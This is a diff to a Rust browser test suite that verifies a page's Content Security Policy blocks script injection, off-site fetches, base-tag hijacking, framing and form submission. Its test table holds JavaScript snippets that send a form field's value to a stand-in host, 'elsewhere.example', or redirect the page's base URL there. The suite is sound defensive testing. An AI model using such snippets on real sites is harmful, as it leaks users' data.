@@ -3,12 +3,16 @@
 use browser_tests::{Host, Page, Place, Site};
 
 /// What each directive that counts is broken by.
-const BREAK: [(&str, &str); 4] = [
+const BREAK: [(&str, &str); 5] = [
     (
         "script-src-elem",
         "const script = document.createElement('script'); script.textContent = 'window.ran = true'; document.head.append(script);",
     ),
     ("connect-src", "fetch('https://elsewhere.example/?w=' + id('w').value).catch(() => {});"),
+    (
+        "base-uri",
+        "document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }));",
+    ),
     ("img-src", "document.createElement('img').src = 'https://elsewhere.example/pixel.png';"),
     (
         "style-src-elem",
@@ -16,14 +20,25 @@ const BREAK: [(&str, &str); 4] = [
     ),
 ];
 
-/// Asserts that the page works and that its policy forbids everything above.
-fn check(page: &Page, what: &str) {
+/// A frame of somebody else; the single file lets itself be shown in one, wherever it lies.
+const FRAME: (&str, &str) = (
+    "frame-src",
+    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/?w=' + id('w').value }));",
+);
+/// A form that sends what is in it; in a sandbox nothing is sent in any case.
+const FORM: (&str, &str) = (
+    "form-action",
+    "const form = document.createElement('form'); form.action = 'https://elsewhere.example/'; document.body.append(form); form.submit();",
+);
+
+/// Asserts that the page works and that its policy forbids everything above, and `more`.
+fn check(page: &Page, what: &str, more: &[(&str, &str)]) {
     page.opened();
     page.script(
         "window.refused = [];
         document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));",
     );
-    for (directive, attempt) in BREAK {
+    for (directive, attempt) in BREAK.iter().chain(more) {
         page.script(attempt);
         page.until(&format!("{what}: {directive} forbids it"), &format!("refused.includes('{directive}')"));
     }
@@ -42,7 +57,7 @@ fn check(page: &Page, what: &str) {
 fn a_page_by_itself_loads_and_sends_nothing_elsewhere() {
     let mut page = Page::open("view=train&data=houses");
     page.let_log();
-    check(&page, "alone");
+    check(&page, "alone", &[FRAME, FORM]);
 }
 
 #[test]
@@ -52,7 +67,7 @@ fn nor_does_a_frame_in_a_sandbox_which_has_no_origin() {
         Host::new(site, Place::Across, "<iframe title=embed sandbox=allow-scripts src='PAGE?embed=1'></iframe>");
     host.page.let_log();
     host.ready();
-    host.inside(|page| check(page, "sandbox"));
+    host.inside(|page| check(page, "sandbox", &[FRAME]));
 }
 
 #[test]
@@ -60,5 +75,5 @@ fn nor_does_the_page_that_is_one_file() {
     let mut page = Page::blank(Site::single_file());
     page.let_log();
     page.visit("wxplusb.html");
-    check(&page, "one file");
+    check(&page, "one file", &[FORM]);
 }
